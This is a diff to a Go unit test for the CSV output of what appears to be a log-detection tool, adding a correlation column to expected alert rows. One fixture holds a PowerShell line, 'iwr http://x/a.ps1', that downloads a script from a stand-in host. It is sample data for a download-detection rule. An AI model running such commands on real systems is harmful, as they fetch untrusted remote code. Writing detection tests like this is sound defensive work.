@@ -11,7 +11,7 @@ import (
 )
 
 var wantHeader = []string{"timestamp", "level", "rule_title", "rule_id", "rule_author", "techniques", "tactics",
-	"host", "source_path", "source_line", "source_record", "event"}
+	"host", "source_path", "source_line", "source_record", "event", "correlation"}
 
 // writeCSV writes the alerts and parses the result back with encoding/csv,
 // which also checks every record has the header's column count.
@@ -54,15 +54,15 @@ func TestCSVColumns(t *testing.T) {
 		{"evtx", rows[0], []string{"2026-03-10T09:41:12.345Z", "high", "Suspicious PowerShell Download",
 			"5f8b1e2a-0000-4000-8000-000000000001", "Florian Roth (Nextron Systems)", "T1059.001 T1105",
 			"execution command-and-control", "CLAIMS-WS03.medsure.local", "logs/a.evtx", "", "4711",
-			`{"EventID":4104,"ScriptBlockText":"iwr http://x/a.ps1"}`}},
+			`{"EventID":4104,"ScriptBlockText":"iwr http://x/a.ps1"}`, ""}},
 		// No time, host or record: empty cells, never "0" or "null".
 		{"json", rows[1], []string{"", "low", "Whoami", "r2", "someone", "", "", "", "events.jsonl", "12", "",
-			`{"Image":"C:\\Windows\\System32\\whoami.exe"}`}},
-		// A correlation alert has no event; its cell is empty (the
-		// correlation section itself has no CSV column).
+			`{"Image":"C:\\Windows\\System32\\whoami.exe"}`, ""}},
+		// A correlation alert has no event; its cell is empty and the
+		// correlation section is the last column, as JSON.
 		{"correlation", rows[2], []string{"2026-03-10T09:41:12.345Z", "high", "Suspicious PowerShell Download",
 			"5f8b1e2a-0000-4000-8000-000000000001", "Florian Roth (Nextron Systems)", "T1059.001 T1105",
-			"execution command-and-control", "CLAIMS-WS03.medsure.local", "logs/a.evtx", "", "4711", ""}},
+			"execution command-and-control", "CLAIMS-WS03.medsure.local", "logs/a.evtx", "", "4711", "", `{"type":"event_count"}`}},
 	} {
 		if !reflect.DeepEqual(tc.got, tc.want) {
 			t.Errorf("%s:\n got  %q\n want %q", tc.name, tc.got, tc.want)
